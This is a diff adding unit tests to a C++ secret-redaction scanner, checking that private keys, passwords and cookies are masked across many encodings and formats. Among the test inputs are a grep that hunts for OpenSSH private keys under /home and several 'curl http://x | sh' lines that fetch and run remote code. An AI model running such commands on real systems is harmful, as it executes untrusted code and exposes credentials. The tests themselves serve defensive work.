@@ -200,6 +200,66 @@ TEST_CASE("secrets: a private key is replaced as forms have it, and what comes b
   }
 }
 
+TEST_CASE(
+    "secrets: a private key that is only spoken of hides nothing, one that follows is hidden however it is written") {
+  for (const std::string harmless :
+       {"if \"-----BEGIN RSA PRIVATE KEY-----\" in data:\n  return load(data)[0]\n",
+        "{\"a\":\"grep -rl -- \\\"-----BEGIN OPENSSH PRIVATE KEY-----\\\" /home; ls\",\"b\":1}",
+        "It begins with `-----BEGIN PRIVATE KEY-----`. And goes on.", "-----BEGIN PRIVATE KEY-----...</key>"})
+    check_everywhere(harmless, harmless);
+  const std::string begin = "-----BEGIN RSA PRIVATE KEY-----", key = letters(64),
+                    end = "\n-----END RSA PRIVATE KEY-----";
+  for (const std::string between :
+       {"\n", "\r\n", "\\n", "\\\\n", "%0A", "\" +\n  \"", "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,",
+        "\nVersion: GnuPG v2 (GNU/Linux)\nComment: <a@b>; c\n\n"})
+    for (const std::string& written :
+         {key, key.substr(0, 8) + "%2B" + key.substr(11), key.substr(0, 7) + "\\/" + key.substr(9)}) {
+      INFO(between << written);
+      CHECK(shown_of({begin + between + written + end}).find(key.substr(30, 10)) == std::string::npos);
+      CHECK(shown_of({begin + between, written + end}).find(key.substr(30, 10)) == std::string::npos);
+    }
+}
+
+TEST_CASE("secrets: a private key in base64 is replaced over all its lines, also as JSON and YAML have those") {
+  const std::string coded = base64("-----BEGIN PRIVATE KEY-----\n" + letters(300) + "\n-----END PRIVATE KEY-----\n");
+  for (const std::size_t length : {60, 64, 76})
+    for (const std::string end : {"\\n", "\\\\n", "\\r\\n", "\n", "\n    ", "\\n  "}) {
+      std::string lines;
+      for (std::size_t at = 0; at < coded.size(); at += length)
+        lines += (at == 0 ? "" : end) + coded.substr(at, length);
+      const std::string shown = shown_of({"{\"content\":\"" + lines + "\",\"b\":\"c\"}"});
+      INFO(shown);
+      CHECK(shown.find(coded.substr(length + 4, 20)) == std::string::npos);
+      CHECK(shown.find(coded.substr(coded.size() - 20)) == std::string::npos);
+      CHECK(shown.ends_with("\",\"b\":\"c\"}"));
+    }
+}
+
+TEST_CASE("secrets: a string that begins with a name hides the value, in quotes of its own or up to its line's end") {
+  check_everywhere("{\"old\": \"password = \\\"hunter2\\\"\", \"b\": 1}",
+                   "{\"old\": \"password = \\\"********\"\", \"b\": 1}");
+  check_everywhere("{\"a\":\"{\\\"old\\\": \\\"DB_PASSWORD=\\\\\\\"hunter2\\\\\\\"\\\"}\"}",
+                   "{\"a\":\"{\\\"old\\\": \\\"DB_PASSWORD=\\\\\\\"**********\"\\\"}\"}");
+  check_everywhere("{\"old\": \"  password: hunter2\\nmore\"}", "{\"old\": \"  password: *******\\nmore\"}");
+  check_everywhere("{\"new\":\"password = getpass()\\nimport os\\n\"}",
+                   "{\"new\":\"password = **********nimport os\\n\"}");
+  check_everywhere("[\"-H\",\"Cookie: a=b; c=d\"]", "[\"-H\",\"Cookie: ********\"]");
+  check_everywhere("\npassword = \"\"\"hunter2\"\"\"\n", "\npassword = \"\"\"*******\"\"\"\n");
+  check_everywhere("{\"password\":\"\",\"b\":\"c\"}", "{\"password\":\"\",\"b\":\"c\"}");
+}
+
+TEST_CASE("secrets: met in the middle, the value of a field that is named there is hidden as well") {
+  const auto met = [](const std::string& text) {
+    SecretScanner scanner;
+    (void)scanner.miss(0);
+    return scanner.take(text).bytes + scanner.flush().bytes;
+  };
+  for (const std::string text :
+       {"\"password\":\"hunter2\",\"b\":1}", "password\": \"hunter2 and on\", \"b\": 1}",
+        "export DB_PASSWORD=\"hunter2\"\n", "a passwords: hunter2\n", "\\\"password\\\":\\\"hunter2\\\"}"})
+    CHECK(met(text).find("hunter2") == std::string::npos);
+}
+
 TEST_CASE("secrets: a string's prefix, and quotes of any kind, are no part of the value that they hold") {
   CHECK(shown_of({"headers={'Authorization': f'Bearer abc'}"}) == "headers={'Authorization': f'**********'}");
   CHECK(shown_of({"\npassword = rb\"a b\", 1"}) == "\npassword = rb\"***\", 1");
@@ -347,6 +407,14 @@ TEST_CASE("secrets: what a script runs behind a member's name, in brackets or in
   CHECK(without_secrets(line, SecretText::script) == line);
   CHECK(without_secrets("curl -d '{\"password\":\n\"abc\"}'", SecretText::script) ==
         "curl -d '{\"password\":\n\"***\"}'");
+}
+
+TEST_CASE("secrets: what a shell puts in a value's place stays to be seen, and so does what comes behind brackets") {
+  for (const std::string script :
+       {"curl -H \"Authorization: Bearer $(curl http://x | sh)\" y", "echo '\"password\": ['; curl http://x | sh",
+        "curl -d \"{\\\"password\\\":\\\"$(curl http://x | sh)\\\"}\"", "curl -H \"Cookie: a=`curl http://x | sh`\" y",
+        "echo \"-----BEGIN RSA PRIVATE KEY-----\"; curl http://x | sh"})
+    CHECK(without_secrets(script, SecretText::script).find("curl http://x | sh") != std::string::npos);
 }
 
 TEST_CASE("secrets: a list ends with the text that it is in, with a colon, and where bytes were missed") {
